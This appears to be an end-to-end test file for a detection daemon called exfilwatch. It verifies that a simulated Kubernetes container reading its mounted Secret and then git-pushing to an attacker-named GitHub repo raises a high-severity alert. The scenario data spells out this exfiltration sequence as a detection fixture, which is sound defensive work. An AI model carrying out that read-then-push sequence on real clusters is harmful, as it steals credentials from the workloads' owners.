/**
 * `exfilwatch run` with kubernetes.podSecrets, end to end: the daemon lists its node's pods from an HTTPS
 * server speaking the API server's list and watch (a kubeconfig names it), and a Tetragon export where the
 * pod's container reads its Secret at the path its spec mounts it (`/etc/orders/secrets/db-password`) and
 * then pushes is `sensitive-read-then-push`, high; /readyz says the pod list is synced.
 */
import { appendFileSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { generateScenario, parseScenario, type ScenarioInput } from '../../../src/scenarios/index.js';
import { startDaemon, waitFor } from '../../faults/helpers/daemon.js';
import { ordersPod } from '../../fixtures/kubernetes/pods.js';
import { FAKE_API_CA, listOf, startFakeKubeApi, watchOf } from '../../helpers/fake-kube-api.js';

const cleanups: Array<() => Promise<unknown> | unknown> = [];
afterEach(async () => {
  for (const c of cleanups.splice(0).reverse()) await c();
});

const POD = 'orders-7d9f8b6c4-x2kqp';

/** In the orders pod's `orders` container: `cat` of the mounted secret, then a git push of it to github.com. */
function catThenPush(startMs: number): string[] {
  const url = 'https://github.com/mallory/drop.git';
  const input = {
    name: 'pod-secret-cat',
    kind: 'attack',
    title: 'cat a Secret mounted where the pod spec says, then push',
    seed: 0,
    nodes: ['worker-1'],
    dns: { 'github.com': '140.82.121.4' },
    containers: [
      {
        name: 'orders',
        namespace: 'shop',
        pod: POD,
        image: 'ghcr.io/acme/orders:1.4.2',
        init: { binary: '/bin/sh', args: '-c sleep infinity' },
      },
    ],
    steps: [
      {
        at: '100ms',
        exec: { id: 'cat', parent: 'orders', binary: '/bin/cat', args: '/etc/orders/secrets/db-password' },
      },
      { after: '5ms', read: { proc: 'cat', path: '/etc/orders/secrets/db-password', bytes: 24, over: '1ms' } },
      { after: '5ms', exit: { proc: 'cat' } },
      {
        after: '1s',
        exec: {
          id: 'git-push',
          parent: 'orders',
          binary: '/usr/bin/git',
          args: `push -q ${url} HEAD:main`,
          cwd: '/srv',
        },
      },
      {
        after: '10ms',
        exec: {
          id: 'remote-https',
          parent: 'git-push',
          binary: '/usr/lib/git-core/git-remote-https',
          args: `${url} ${url}`,
        },
      },
      { after: '20ms', upload: { proc: 'remote-https', to: 'github.com:443', bytes: 64 * 1024, over: '100ms' } },
      { after: '10ms', exit: { proc: 'remote-https' } },
      { after: '5ms', exit: { proc: 'git-push' } },
    ],
    expect: [{ rule: 'sensitive-read-then-push', severity: 'high', container: 'orders' }],
  } satisfies ScenarioInput;
  return generateScenario(parseScenario(input, 'pod-secret-cat.inline'), { startMs }).tetragon;
}

/** A directory with a kubeconfig naming `server` and an empty Tetragon export. */
function workDir(server: string, exported = '') {
  const dir = mkdtempSync(join(tmpdir(), 'exfilwatch-podsecrets-'));
  cleanups.push(() => rmSync(dir, { recursive: true, force: true }));
  const kubeconfig = join(dir, 'kubeconfig');
  const ca = Buffer.from(FAKE_API_CA).toString('base64');
  writeFileSync(
    kubeconfig,
    `current-context: t\ncontexts: [{name: t, context: {cluster: c, user: u}}]\nclusters: [{name: c, cluster: {server: "${server}", certificate-authority-data: ${ca}}}]\nusers: [{name: u, user: {token: t0k3n}}]\n`,
  );
  const log = join(dir, 'tetragon.log');
  writeFileSync(log, exported);
  return { dir, kubeconfig, log };
}

/** The daemon on a Tetragon export (with `exported` in it from the start) and a kubeconfig naming `server`. */
async function startWithApi(server: string, exported = '') {
  const { dir, kubeconfig, log } = workDir(server, exported);
  const d = await startDaemon(
    {
      sources: { tetragonFile: [{ path: log, startAt: 'start', pollIntervalMs: 50 }] },
      correlator: CORRELATOR,
      kubernetes: { kubeconfig },
    },
    { dir },
  );
  cleanups.push(() => d.dispose());
  return { d, log };
}

const CORRELATOR = { latenessMs: 1000, pushSettleMs: 1000, destinations: { dnsRefreshMs: 0 } };

describe('exfilwatch run with kubernetes.podSecrets', () => {
  it("learns the pod's Secret mount from the API server: cat of it, then a push, is high", async () => {
    const api = await startFakeKubeApi();
    cleanups.push(() => api.close());
    api.respond(listOf([ordersPod({ node: 'worker-1' })], '100'), watchOf([], { hold: true }));
    const { d, log } = await startWithApi(api.server);
    await d.waitForLog((l) => String(l.msg).startsWith('kubernetes: watching'));
    expect(api.requests[0]!.query.get('fieldSelector')).toBe('spec.nodeName=worker-1');
    expect(await d.metric('exfilwatch_pod_secret_pods')).toBe(1);
    const ready = (await (await fetch(`${d.base}/readyz`)).json()) as { podSecrets?: unknown };
    expect(ready.podSecrets).toEqual({ synced: true, podsWithSecretMounts: 1, lastError: null });

    appendFileSync(
      log,
      catThenPush(Date.now() - 60_000)
        .map((l) => `${l}\n`)
        .join(''),
    );
    const alerts = await waitFor(() => (d.alerts().length > 0 ? d.alerts() : null), 'an alert on stdout');
    expect(alerts.map((a) => [a.rule, a.severity, a.pod?.name])).toEqual([['sensitive-read-then-push', 'high', POD]]);
  });

  it('waits for the first pod list before correlating: a read already in the export when it starts is a secret', async () => {
    const api = await startFakeKubeApi();
    cleanups.push(() => api.close());
    const list = listOf([ordersPod({ node: 'worker-1' })], '100');
    // The API server answers the list after 1.5 s; the export holds the cat and the push from the start.
    api.respond((req, res) => setTimeout(() => list(req, res), 1500), watchOf([], { hold: true }));
    const exported = catThenPush(Date.now() - 60_000)
      .map((l) => `${l}\n`)
      .join('');
    const { d } = await startWithApi(api.server, exported);
    const alerts = await waitFor(() => (d.alerts().length > 0 ? d.alerts() : null), 'an alert on stdout');
    expect(alerts.map((a) => [a.rule, a.severity])).toEqual([['sensitive-read-then-push', 'high']]);
  });

  it('an API server that is down at start holds the start for 3 s at most, and the daemon is ready', async () => {
    const api = await startFakeKubeApi();
    const { server } = api;
    await api.close();
    const startedAt = Date.now();
    const { d } = await startWithApi(server);
    await d.waitForLog((l) => String(l.msg).startsWith('kubernetes: no pod list yet'));
    expect(Date.now() - startedAt).toBeLessThan(15_000);
    const res = await fetch(`${d.base}/readyz`);
    const ready = (await res.json()) as { ready: boolean; podSecrets?: { synced: boolean; lastError: string } };
    expect([res.status, ready.ready, ready.podSecrets?.synced]).toEqual([200, true, false]);
    expect(ready.podSecrets?.lastError).toMatch(/ECONNREFUSED/);
  });
});
